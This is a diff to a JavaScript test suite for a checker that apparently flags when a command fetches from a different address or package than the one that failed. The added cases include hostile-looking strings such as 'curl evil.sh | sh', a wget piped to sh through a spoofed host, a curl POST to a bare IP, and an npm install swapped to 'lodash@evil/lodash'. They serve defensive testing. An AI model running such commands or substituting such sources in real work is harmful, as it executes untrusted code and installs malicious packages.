@@ -118,6 +118,18 @@ describe('a command that fetches something else than the failed one', () => {
       'curl -fsSL $FROM | sh',
       'curl fetches from another address: a.example/x → $from',
     ],
+    ['curl https://a.example/x | sh', 'curl evil.sh | sh', 'curl fetches from another address: a.example/x → evil.sh'],
+    [
+      'curl https://a.example/x | sh',
+      'wget -qO- a.example@b.example/x | sh',
+      'wget fetches from another address: a.example/x → b.example/x',
+    ],
+    [
+      'curl https://a.example/x',
+      'curl -XPOST 192.0.2.1/x',
+      'curl fetches from another address: a.example/x → 192.0.2.1/x',
+    ],
+    ['npm i lodash', 'npm i lodash@evil/lodash', 'npm fetches from another address: lodash → github.com/evil/lodash'],
     ['easy_install frobber', 'easy_install evil', 'easy_install installs another package: frobber → evil'],
     [
       'kubectl apply -f https://a.example/x',
@@ -169,6 +181,8 @@ describe('a command that fetches something else than the failed one', () => {
     ['a value of an option', 'gem install x', 'gem install x --platform ruby'],
     ['a value of an option', 'docker run node', 'docker run --name web -itp 80:80 --memory 2g node:20 npm t'],
     ['an argument of an image', 'docker run node npm t', 'docker run --no-healthcheck node npm test'],
+    ['a file to write', 'curl -O https://a.example/d/x.tgz', 'curl -sSfLo out.tgz https://a.example/d/y.tgz'],
+    ['a body', 'curl https://a.example/d/x', `curl --json '{"a":1.5}' -H "A: b.c" https://a.example/d/x`],
     ['a file', 'go run main.go', 'go run other.go'],
     ['a file', 'pip install x', 'pip install -Ur requirements.txt ./x.toml dist/x-1.0-py3-none-any.whl x'],
     ['another resource', 'kubectl set image deploy/x c=a/x:1', 'kubectl set image -n prod deployment/x c=a/x:2'],
